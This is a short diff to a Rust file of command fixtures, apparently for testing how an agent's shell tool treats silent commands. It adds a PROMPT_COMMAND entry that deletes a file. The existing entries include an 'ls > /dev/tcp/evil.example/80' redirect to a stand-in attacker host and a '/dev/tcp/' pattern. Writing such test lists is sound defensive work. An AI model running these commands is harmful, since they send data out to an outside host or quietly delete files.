@@ -25,7 +25,7 @@ pub(super) const OTHER_TOOLS: [&str; 4] = ["fake_add", "list_mcp_resources", "ma
 pub(super) const NOT_RUN_PLAINLY: [&str; 1] = ["/dev/tcp/"];
 
 /// Lines that leave no trace when a plain bash runs them; that they did not run is only seen in the result.
-pub(super) const SILENT: [&str; 35] = [
+pub(super) const SILENT: [&str; 36] = [
     // Nothing at all, or what no shell takes.
     "",
     "   \n",
@@ -54,6 +54,7 @@ pub(super) const SILENT: [&str; 35] = [
     "ls > /dev/tcp/evil.example/80",
     // What the shell does by itself.
     "alias l='rm x'",
+    "PROMPT_COMMAND='rm x'",
     "[[ $x -eq 1 ]] && ls",
     "cd - && ls",
     "echo $((x))",
